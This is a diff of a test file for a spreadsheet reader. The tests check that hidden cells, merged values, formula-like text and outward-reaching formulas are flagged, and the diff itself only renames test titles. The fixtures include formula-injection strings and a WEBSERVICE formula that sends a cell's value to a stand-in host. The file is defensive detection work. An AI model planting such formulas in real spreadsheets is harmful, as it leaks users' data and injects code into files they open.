@@ -12,7 +12,7 @@ describe('what is hidden or dangerous', () => {
     ['2.2', MEETINGS, 10, '3/6', 10, 'KH 2/KH-UBND'],
   ];
 
-  it('values of hidden rows, columns and sheets are read and told; a look-up sheet is not', () => {
+  it('values of hidden rows, columns and sheets are read and reported; a look-up sheet is not', () => {
     const hidden = read(rows, { hiddenRows: [2], hiddenColumns: [4], state: 'hidden', name: 'BC' });
     expect(hidden.entries).toHaveLength(2);
     expect(ofKind(hidden, 'hidden')).toEqual([
@@ -43,7 +43,7 @@ describe('what is hidden or dangerous', () => {
     ]);
   });
 
-  it('a value under a merge is told, not read', () => {
+  it('a value under a merge is reported, not read', () => {
     const report = read(rows, { merges: ['D2:D3'] });
     expect(entryOf(report, '2.2').value?.reading).toEqual({ kind: 'missing' });
     expect(ofKind(report, 'hidden')).toEqual([
@@ -60,7 +60,7 @@ describe('what is hidden or dangerous', () => {
     '\t=1+1',
     '=A1',
     '=72/90',
-  ])('text that would run is told: %s', (text) => {
+  ])('text that Excel would execute is reported: %s', (text) => {
     const report = read([...rows, ['2.3', TRAINED, 10, 4, 10, 'KH 3/KH-UBND', text]]);
     expect(ofKind(report, 'formula-text').map((remark) => remark.cell.address)).toEqual(['G4']);
   });
@@ -83,7 +83,7 @@ describe('what is hidden or dangerous', () => {
     expect(ofKind(report, 'formula-text')).toEqual([]);
   });
 
-  it('a formula that reaches outside is told, a sum is not', () => {
+  it('a formula that reaches outside is reported, a sum is not', () => {
     const report = read([
       ...rows,
       ['2.3', TRAINED, 10, { formula: 'WEBSERVICE("http://x/"&A1)', value: 4 }, { formula: 'SUM(E2:E3)', value: 28 }],
